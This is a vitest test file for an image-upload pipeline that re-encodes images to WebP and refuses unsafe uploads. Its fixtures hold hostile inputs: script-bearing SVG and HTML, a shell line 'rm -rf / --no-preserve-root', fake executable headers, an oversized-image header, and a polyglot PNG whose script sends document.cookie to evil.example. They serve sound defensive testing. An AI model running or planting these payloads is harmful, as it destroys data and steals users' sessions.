import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../lib/errors';
import { IMAGE_TYPE_MESSAGE, IMAGE_UNREADABLE_MESSAGE, processImage } from './image-pipeline';

const isWebp = (b: Buffer) => b.subarray(0, 4).toString('latin1') === 'RIFF' && b.subarray(8, 12).toString('latin1') === 'WEBP';

function solid(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 120, b: 40 } } });
}

async function expectRefused(input: Buffer, message = IMAGE_TYPE_MESSAGE) {
  const err = await processImage(input).catch((e: unknown) => e);
  expect(err).toBeInstanceOf(AppError);
  expect((err as AppError).statusCode).toBe(400);
  expect((err as AppError).message).toBe(message);
}

describe('processImage', () => {
  it('re-encodes a PNG to a WebP of at most 1600 px plus a WebP in every smaller responsive width', async () => {
    const png = await solid(2400, 1200).png().toBuffer();
    const { main, variants, width, height } = await processImage(png);
    expect(isWebp(main)).toBe(true);
    expect([width, height]).toEqual([1600, 800]);
    expect(variants.map((v) => v.width)).toEqual([320, 640, 960, 1280]);
    for (const v of variants) {
      expect(isWebp(v.data)).toBe(true);
      const meta = await sharp(v.data).metadata();
      // Same shape as the main image, so the srcset candidates are interchangeable.
      expect([meta.width, meta.height]).toEqual([v.width, v.width / 2]);
    }
  });

  it('makes only the widths below the original, whose own width is the largest', async () => {
    const { width, variants } = await processImage(await solid(1000, 750).jpeg().toBuffer());
    expect(width).toBe(1000);
    expect(variants.map((v) => v.width)).toEqual([320, 640, 960]);
  });

  it('accepts a JPEG, applies its orientation and drops its metadata', async () => {
    const jpeg = await solid(300, 200)
      .jpeg()
      .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'secret-gps-owner' } } })
      .toBuffer();
    const { main } = await processImage(jpeg);
    const meta = await sharp(main).metadata();
    expect(meta.format).toBe('webp');
    // Orientation 6 is a 90° turn: the stored pixels are now upright.
    expect([meta.width, meta.height]).toEqual([200, 300]);
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(main.includes('secret-gps-owner')).toBe(false);
  });

  it('never enlarges a small image', async () => {
    const gif = await solid(120, 80).gif().toBuffer();
    const { width, variants } = await processImage(gif);
    expect(width).toBe(120);
    expect(variants).toEqual([]);
  });

  it('accepts WebP input', async () => {
    const webp = await solid(500, 500).webp().toBuffer();
    expect((await processImage(webp)).width).toBe(500);
  });

  it('refuses SVG, which can carry script', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
    );
    await expectRefused(svg);
    await expectRefused(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'));
  });

  it('refuses HTML', async () => {
    await expectRefused(Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'));
  });

  it('refuses executables renamed to .jpg', async () => {
    await expectRefused(Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n'));
    const mz = Buffer.alloc(512);
    mz.write('MZ', 0, 'latin1');
    mz.writeUInt32LE(0x80, 0x3c);
    mz.write('PE\0\0', 0x80, 'latin1');
    await expectRefused(mz);
    await expectRefused(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(60).fill(0)]));
  });

  it('refuses an empty upload and a PDF', async () => {
    await expectRefused(Buffer.alloc(0));
    await expectRefused(Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n'));
  });

  it('re-encodes a PNG polyglot: the HTML tail survives in no stored file', async () => {
    const html = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
    const png = await solid(400, 64).png().toBuffer();
    const polyglot = Buffer.concat([png, Buffer.from(html)]);
    const { main, variants } = await processImage(polyglot);
    expect(isWebp(main)).toBe(true);
    expect(variants).toHaveLength(1);
    for (const file of [main, ...variants.map((v) => v.data)]) {
      expect(file.includes('<script')).toBe(false);
      expect(file.includes('evil.example')).toBe(false);
    }
  });

  it('refuses truncated PNG and JPEG data', async () => {
    const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#3a7' } })
      .composite([{ input: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><circle cx="400" cy="300" r="250" fill="#f80"/></svg>') }])
      .png()
      .toBuffer();
    await expectRefused(png.subarray(0, Math.floor(png.length / 2)), IMAGE_UNREADABLE_MESSAGE);
    const jpeg = await solid(800, 600).jpeg().toBuffer();
    await expectRefused(jpeg.subarray(0, Math.floor(jpeg.length / 2)), IMAGE_UNREADABLE_MESSAGE);
  });

  it('refuses images above the pixel limit', async () => {
    // A tiny PNG whose header claims 10000 x 10000 pixels: refused before anything is decoded.
    const huge = await solid(10, 10).png().toBuffer();
    huge.writeUInt32BE(10_000, 16);
    huge.writeUInt32BE(10_000, 20);
    huge.writeUInt32BE(crc32(huge.subarray(12, 29)), 29);
    const err = await processImage(huge).catch((e: unknown) => e);
    expect((err as AppError).statusCode).toBe(400);
    expect((err as AppError).message).toMatch(/megapixels/);
  });
});
